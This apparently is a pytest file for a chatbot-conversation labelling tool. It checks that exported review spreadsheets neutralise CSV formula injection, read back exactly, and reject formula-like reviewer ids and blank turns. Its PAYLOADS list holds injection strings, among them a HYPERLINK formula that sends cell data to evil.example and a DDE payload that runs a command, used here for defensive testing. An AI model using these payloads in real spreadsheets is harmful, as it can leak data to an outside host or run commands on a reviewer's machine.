"""Sheets reviewers open in a spreadsheet: text a chatbot's users typed never runs as a formula (OWASP CSV
injection), it reads back exactly, a formula-like reviewer id is refused, and a row with a blank turn in a
dataset labelled per turn is one line naming the row."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from calibration.cli import main
from calibration.labelling.cells import FORMULA_START
from calibration.labelling.items import dataset_conversations
from calibration.labelling.sheet import sheet_frame
from rubric.schema import load_rubric

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _poison(labelling_dir) -> str:
    """The first conversation's id, role and texts made to start like formulas, as a user could."""
    path = labelling_dir / "conversations.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    first = rows[0]
    first["conversation_id"] = "=cid()"
    first["chatbot_role"] = "@role " + first["chatbot_role"]
    for t, turn in enumerate(first["turns"]):
        turn["user"] = PAYLOADS[t % len(PAYLOADS)]
        turn["assistant"] = "-" + turn["assistant"]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    llm = pd.read_csv(labelling_dir / "llm.csv", dtype=str)
    old = llm["conversation_id"].iloc[0]
    llm.loc[llm["conversation_id"] == old, "conversation_id"] = "=cid()"
    llm.to_csv(labelling_dir / "llm.csv", index=False)
    return "=cid()"


def _cells(path) -> list[str]:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [v for column in frame.columns for v in frame[column]]


def test_suggested_sheets_hold_no_formula_and_read_back_exactly(labelling_dir, tmp_path, capsys):
    cid = _poison(labelling_dir)
    sheet = tmp_path / "estimate.csv"
    assert main(["suggest", "purpose=estimate", f"data={labelling_dir}", "budget=3", f"out={sheet}"]) == 0
    cells = _cells(sheet)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and "'=cid()" in cells
    # the reviewer fills it in; the import reads the texts and ids as they were
    frame = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    frame["judge_id"], frame["answer"] = "ana", "2"
    frame.to_csv(sheet, index=False)
    out = tmp_path / "o"
    assert main(["import", "source=sheet", f"sheet={sheet}", f"data={labelling_dir}", f"out={out}"]) == 0
    labels = pd.read_csv(out / "labels.csv", dtype=str, keep_default_na=False)
    assert cid in set(labels["conversation_id"]) and len(labels) == len(frame)


def test_a_formula_like_reviewer_id_is_refused_at_import(labelling_dir, tmp_path, capsys):
    conversations = dataset_conversations(labelling_dir)
    cid = next(iter(conversations))
    frame = sheet_frame([(cid, "0")], ["placeholder"], load_rubric(labelling_dir), conversations)
    frame["answer"] = "3"
    for who in ["=1+1", "'=1+1", "@me", "-x", "+x"]:  # '=1+1: the quote a spreadsheet keeps comes off, then refused
        frame["judge_id"] = who
        frame.to_csv(tmp_path / "s.csv", index=False)
        assert (
            main(
                [
                    "import",
                    "source=sheet",
                    f"sheet={tmp_path / 's.csv'}",
                    f"data={labelling_dir}",
                    f"out={tmp_path / 'o'}",
                ]
            )
            == 2
        )
        err = capsys.readouterr().err
        assert "sheet row 2: the reviewer id" in err and "starts like a spreadsheet formula" in err, err
        assert not (tmp_path / "o").exists()


def test_a_blank_turn_in_a_dataset_labelled_per_turn_is_refused(labelling_dir, tmp_path, capsys):
    conversations = dataset_conversations(labelling_dir)
    cid = next(iter(conversations))
    frame = sheet_frame([(cid, "0"), (cid, "1")], ["ana", "ana"], load_rubric(labelling_dir), conversations)
    frame["answer"] = "3"
    frame.loc[6, "turn"] = ""
    frame.to_csv(tmp_path / "s.csv", index=False)
    assert (
        main(
            ["import", "source=sheet", f"sheet={tmp_path / 's.csv'}", f"data={labelling_dir}", f"out={tmp_path / 'o'}"]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "sheet row 8 has an answer but a blank turn" in err, err
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("text", ["=1", "'=1", "'plain", "plain", "", "-"])
def test_neutralise_and_restore_are_inverse(text):
    from calibration.labelling.cells import neutralise, restore

    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_START)
